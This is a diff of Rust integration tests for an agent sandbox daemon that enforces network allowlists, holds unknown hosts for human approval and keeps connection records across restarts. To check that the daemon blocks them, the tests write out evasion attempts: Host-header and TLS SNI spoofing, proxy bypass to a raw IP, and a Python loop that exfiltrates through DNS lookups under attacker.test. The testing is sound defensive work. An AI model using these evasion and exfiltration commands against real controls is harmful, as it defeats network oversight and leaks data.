@@ -94,14 +94,29 @@ fn special_and_own_addresses_are_never_reached() {
 
 #[test]
 fn a_connection_cannot_ask_for_another_host() {
-    let (_internet, daemon) = world();
+    let (internet, daemon) = world();
     let script = "curl -sS -m 20 -H 'Host: other.test' http://allowed.test/; curl -sS -m 20 http://allowed.test/ http://allowed.test/ -H 'Host: allowed.test'";
     let out = inside(&daemon, &["--allow", "allowed.test"], script);
     assert!(out.text().contains("asks for other.test at another host"), "{out}");
     assert!(out.text().ends_with("allowedallowed"), "the control: {out}");
-    let tls = "openssl s_client -connect allowed.test:443 -servername other.test </dev/null 2>&1 | grep -c 'alert access denied'";
-    let internet_tls = inside(&daemon, &["--allow", "allowed.test"], tls);
-    assert_ne!(internet_tls.text().trim(), "", "{internet_tls}");
+    // In TLS as well: the greeting that asks for another host stays here, as the server sees; the other one gets there.
+    let (told, greeted) = std::sync::mpsc::channel();
+    internet.serve(PUBLIC, 443, move |mut stream: std::net::TcpStream| {
+        let mut greeting = [0; 4096];
+        let length = std::io::Read::read(&mut stream, &mut greeting).unwrap_or(0);
+        drop(told.send(greeting[..length].to_vec()));
+    });
+    let asks = |name: &str| {
+        let script = format!("openssl s_client -connect allowed.test:443 -servername {name} </dev/null 2>&1");
+        inside(&daemon, &["--allow", "allowed.test"], &script).text()
+    };
+    let greeting = || greeted.recv_timeout(Duration::from_secs(20)).expect("a connection");
+    let said = asks("other.test");
+    assert!(said.contains("tlsv1 alert access denied"), "{said}");
+    assert_eq!(greeting(), b"", "nothing of it left");
+    let said = asks("allowed.test");
+    let greeting = greeting();
+    assert!(greeting.starts_with(&[0x16]) && greeting.windows(12).any(|part| part == b"allowed.test"), "the control: {said}");
 }
 
 #[test]
@@ -184,15 +199,119 @@ fn what_is_not_known_is_held_until_a_person_decides() {
 #[test]
 fn without_the_daemon_there_is_no_network_and_after_a_restart_there_is() {
     let (_internet, mut daemon) = world();
-    let script = "while sleep 0.3; do curl -s -m 2 http://allowed.test/ && echo; done";
+    let script = "curl -s -m 5 http://other.test/; while sleep 0.3; do curl -s -m 2 http://allowed.test/ && echo; done";
     let id = {
         let agent = daemon.agent(&["--allow", "allowed.test", "--name", "stays"], script);
         agent.prints("allowed");
         agent.id
     };
+    let count = |daemon: &Daemon| daemon.aether(["logs", &id]).ok().text().matches("allowed").count();
+    // Longer than it takes until what was asked for is kept.
+    eventually("ten requests", Duration::from_secs(30), || (count(&daemon) > 10).then_some(()));
     daemon.kill9();
     daemon.restart();
-    let count = |daemon: &Daemon| daemon.aether(["logs", &id]).ok().text().matches("allowed").count();
     let before = count(&daemon);
     eventually("the network to come back", Duration::from_secs(20), || (count(&daemon) > before + 2).then_some(()));
+
+    // What was asked for is remembered over that, over the agent's end and another restart, and goes with the agent.
+    let export = |daemon: &Daemon| daemon.aether(["network", "stays", "--export", "csv"]).ok().text();
+    let is_whole = |csv: &str| {
+        let denied = "\"other.test\",80,denied,\"no rule allows it\",0,1,";
+        let allowed =
+            csv.lines().find_map(|line| line.strip_prefix("\"allowed.test\",80,allowed,\"allowed by the rule allowed.test\","));
+        let allowed: u64 = allowed.and_then(|rest| rest.split(',').next()?.parse().ok()).unwrap_or_default();
+        assert!(csv.starts_with("host,port,verdict,reason,") && csv.contains(denied) && allowed > 10, "{csv}");
+        allowed
+    };
+    let live = is_whole(&export(&daemon));
+    daemon.aether(["stop", "stays"]).ok();
+    let ended = is_whole(&export(&daemon));
+    assert!(ended >= live, "{ended} of {live}");
+    daemon.kill9();
+    daemon.restart();
+    assert_eq!(is_whole(&export(&daemon)), ended);
+    let json = daemon.aether(["network", "stays", "--export", "json"]).ok().text();
+    assert!(json.lines().count() == 2 && json.contains("\"bytesReceived\":"), "{json}");
+    daemon.aether(["rm", "stays"]).ok();
+}
+
+#[test]
+fn what_waits_when_the_service_ends_is_cut_and_what_was_said_always_stays() {
+    let (_internet, mut daemon) = world();
+    let script = "curl -sS -m 60 http://other.test/; curl -sS -m 60 http://www.allowed.test/ || echo cut; \
+                  curl -sS -m 60 http://other.test/ && echo again; curl -sS -m 60 http://www.allowed.test/";
+    let asked = |daemon: &Daemon, host: &str| {
+        eventually(&format!("{host} to wait"), Duration::from_secs(20), || {
+            let list = daemon.aether(["--json", "approvals"]).ok().json();
+            list.as_array()?.iter().find(|one| one["wish"]["host"] == host)?["id"].as_u64()
+        })
+    };
+    let agent = daemon.agent(&["--net", "ask", "--name", "asks"], script);
+    let id = agent.id.clone();
+    let first = asked(&daemon, "other.test");
+    daemon.aether(["approvals", "allow", &first.to_string(), "--always"]).ok();
+    agent.prints("other");
+    let waited = asked(&daemon, "www.allowed.test");
+    daemon.kill9();
+    daemon.restart();
+    let printed = |what: &str| {
+        eventually(what, Duration::from_secs(30), || daemon.aether(["logs", &id]).ok().text().contains(what).then_some(()));
+    };
+    printed("cut");
+    // Nobody is asked about it a second time.
+    printed("otheragain");
+    let anew = asked(&daemon, "www.allowed.test");
+    assert!(anew > waited, "a number is never given twice: {anew} after {waited}");
+    daemon.aether(["approvals", "allow", &waited.to_string()]).refused(3, "no approval");
+    daemon.aether(["approvals", "allow", &anew.to_string()]).ok();
+    printed("again\nallowed");
+    daemon.aether(["rm", "-f", &id]).ok();
+}
+
+#[test]
+fn names_below_one_domain_run_out_and_other_domains_do_not() {
+    let (_internet, daemon) = world();
+    // The host finds none of these names: it is the asking that would carry data.
+    let script = "
+import concurrent.futures as f, urllib.request as u
+def ask(name):
+    try: u.urlopen(f'http://{name}/', timeout=30); return 'answered', ''
+    except u.HTTPError as e: return e.code, e.read().decode()
+with f.ThreadPoolExecutor(8) as pool: said = list(pool.map(ask, [f'd{i:x}.data.attacker.test' for i in range(140)]))
+print(sum(code == 502 for code, _ in said), sum(code == 403 for code, _ in said), next(text for code, text in said if code == 403))
+print(ask('allowed.test')[0])
+";
+    let args = ["run", "--rm", "--net", "open", "--", "python3", "-c", script];
+    let said = daemon.aether_with(args, b"", Duration::from_secs(60)).ok().text();
+    assert!(said.starts_with("128 12 error: ") && said.trim_end().ends_with("answered"), "{said}");
+    assert!(said.contains("it looked up as many names below attacker.test as it may in an hour"), "{said}");
+    let events = daemon.aether(["--json", "events", "--since", "0"]).ok().text();
+    assert!(events.contains("it looks up very many names below attacker.test"), "people hear of it");
+}
+
+#[test]
+fn a_kernel_that_cannot_pick_sockets_leaves_the_proxy_alone_and_says_so() {
+    let internet = Internet::new();
+    internet.serve(PUBLIC, 80, http("allowed"));
+    let daemon = internet.daemon_behind(HOSTS, "without_bpf.c");
+    let allow = ["--allow", "allowed.test"];
+    let said = inside(&daemon, &allow, "curl -sS -m 20 http://allowed.test/ http://other.test/").text();
+    assert!(said.starts_with("allowed") && said.contains("no rule allows it"), "programs that know a proxy: {said}");
+    let script = "time -p curl -sS -m 20 --noproxy '*' http://allowed.test/; curl -sS -m 20 --noproxy '*' http://93.184.216.34/";
+    let out = inside(&daemon, &allow, script);
+    assert!(out.code != 0 && !out.text().contains("allowed"), "there is no other way, open or closed: {out}");
+    let real: f64 = out.stderr.lines().find_map(|line| line.strip_prefix("real ")?.parse().ok()).expect("a time");
+    assert!(real < 3.0, "it fails at once: {out}");
+
+    let doctor = daemon.aether(["doctor", "--json"]).json();
+    let finding =
+        doctor["findings"].as_array().expect("findings").iter().find(|one| one["name"] == "network-relay").expect("named");
+    assert_eq!(finding["status"], "warning", "{finding}");
+    let agent = daemon.agent(&allow, "exec sleep 600");
+    let shown = agent.info()["enforcement"]["layers"]["network"]["detail"].to_string();
+    let report = daemon.aether(["--json", "inspect", "--isolation", &agent.id]).ok().text();
+    for text in [finding.to_string(), shown, report] {
+        assert!(text.contains("only the proxy and the resolver inside can be reached"), "{text}");
+    }
+    assert!(finding.to_string().contains("HTTP_PROXY"), "{finding}");
 }
